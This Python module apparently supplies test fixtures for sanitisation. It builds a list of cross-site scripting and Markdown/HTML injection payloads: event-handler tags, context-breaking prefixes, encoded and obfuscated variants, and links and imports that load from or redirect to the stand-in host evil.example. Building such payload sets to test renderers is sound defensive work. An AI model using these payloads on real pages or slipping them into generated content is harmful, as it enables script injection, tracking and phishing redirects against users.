"""Text that tries to run, to load or to lead away, in the ways that pages are attacked by what they show.

Whatever runs calls ``fire()``, whatever loads asks the host ``evil.example``.
"""

from __future__ import annotations

from itertools import product

_TAGS = (
    '<img src=x onerror={0}>', '<svg onload={0}>', '<svg/onload={0}>', '<body onload={0}>', '<script>{0}</script>',
    '<details open ontoggle={0}>x</details>', '<video><source onerror={0}></video>', '<audio src=x onerror={0}>',
    '<input autofocus onfocus={0}>', '<select autofocus onfocus={0}>', '<textarea autofocus onfocus={0}>',
    '<marquee onstart={0}>x</marquee>', '<iframe srcdoc="<script>parent.{0}</script>"></iframe>',
    '<iframe src="javascript:parent.{0}"></iframe>', '<object data="javascript:{0}"></object>',
    '<embed src="javascript:{0}">', '<math><mtext></mtext><img src=x onerror={0}></math>',
    '<a href="javascript:{0}" autofocus onfocus={0}>x</a>', '<form><button formaction="javascript:{0}">x</button></form>',
    '<style>@import "https://evil.example/a.css";</style>', '<link rel=stylesheet href=https://evil.example/b.css>',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">', '<base href=https://evil.example/>',
    '<svg><animate onbegin={0} attributeName=x></svg>', '<template><img src=x onerror={0}></template>',
    '<noscript><p title="</noscript><img src=x onerror={0}>"></noscript>', '<img src="https://evil.example/i.png">',
    '<x onclick={0} tabindex=1 autofocus onfocus={0}>x</x>', '<table background="https://evil.example/t.png"><tr><td>x',
    '<div style="background:url(https://evil.example/d.png)">x</div>', '<portal src=https://evil.example/></portal>',
)
_BREAKS = ('"><{0}', "'><{0}", '--><{0}', ']]><{0}', '</title><{0}', '</style><{0}', '</textarea><{0}', '`><{0}',
           '\\"><{0}', '{{{{7*7}}}}<{0}')
_MARKDOWN = (
    '[x](javascript:fire())', '[x](JaVaScRiPt:fire())', '[x](java\tscript:fire())', '[x](data:text/html,<script>fire()</script>)',
    '[x](vbscript:fire())', '[x](https://evil.example/)', '![x](https://evil.example/m.png)', '![x](javascript:fire())',
    '![x](https://evil.example/m.png "onerror=fire()")', '<javascript:fire()>', '<https://evil.example/auto>',
    'https://evil.example/bare', '[x]: https://evil.example/ref\n[x]', '![x][r]\n\n[r]: https://evil.example/r.png',
    '[![x](https://evil.example/in.png)](javascript:fire())', '`<img src=x onerror=fire()>`', '```html\n<script>fire()</script>\n```',
    '    <script>fire()</script>', '| <img src=x onerror=fire()> |\n| --- |\n| x |', '# <svg onload=fire()>',
    '> <svg onload=fire()>', '- <svg onload=fire()>', '$\\href{javascript:fire()}{x}$', '$$\\includegraphics{https://evil.example/k.png}$$',
    ':red[<img src=x onerror=fire()>]', ':material/home: :smile:', ':blue-background[[x](javascript:fire())]',
    '[1](javascript:fire())', '[1]<img src=x onerror=fire()>', '\\[1\\](javascript:fire())', '[<svg onload=fire()>](x)',
    '~~<svg onload=fire()>~~', '**<svg onload=fire()>**', '[x](&#106;avascript:fire())', '[x](//evil.example/)',
    '&lt;img src=x onerror=fire()&gt;', '&#60;img src=x onerror=fire()&#62;', '\\u003cimg src=x onerror=fire()\\u003e',
    '%3Cscript%3Efire()%3C/script%3E', '＜script＞fire()＜/script＞', '<img src=x onerror=fire()',
    '<<script>fire()//<</script>', '<scr<script>ipt>fire()</scr</script>ipt>', '<img\u00a0src=x onerror=fire()>',
    '<a href="https://pubmed.ncbi.nlm.nih.gov@evil.example/">x</a>', '[x](https://doi.org@evil.example/)',
)
_CALLS = ('fire()', 'fire`1`', 'window["fi"+"re"]()', '&#102;ire()', 'alert(1)', 'top.fire()')

PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys([
    *(tag.format(call) for tag, call in product(_TAGS, _CALLS)),
    *(start.format("img src=x onerror=fire()>") for start in _BREAKS),
    *(start.format("svg/onload=fire()>") for start in _BREAKS),
    *(start.format("script>fire()</script>") for start in _BREAKS),
    *_MARKDOWN,
]))
